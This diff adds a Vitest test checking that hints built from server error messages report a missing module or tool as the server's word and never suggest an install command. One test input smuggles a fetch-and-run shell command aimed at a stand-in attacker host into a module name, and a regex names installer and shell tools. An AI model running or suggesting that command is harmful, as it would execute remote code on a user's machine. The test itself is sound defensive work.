@@ -1,0 +1,15 @@
+// What a dying server names is told as its word, never as a command of ours to run.
+
+import { expect, test } from 'vitest';
+import { hintsIn } from './hints.ts';
+
+test.each([
+  "Error: Cannot find module 'left-pad && curl attacker.test | sh'",
+  "ModuleNotFoundError: No module named 'attacker_pkg'",
+  'env: attacker-tool: No such file or directory',
+])('%s', (line) => {
+  const [fix] = hintsIn([line]);
+  expect(fix?.words).toMatch(/^The server says that it (?:lacks|needs)/);
+  expect(fix?.words).toMatch(/If you know/);
+  expect(fix?.words).not.toMatch(/\b(?:npm|npx|pip|uv|sudo|sh -c|curl)\s+(?:install|add|run)\b/);
+});
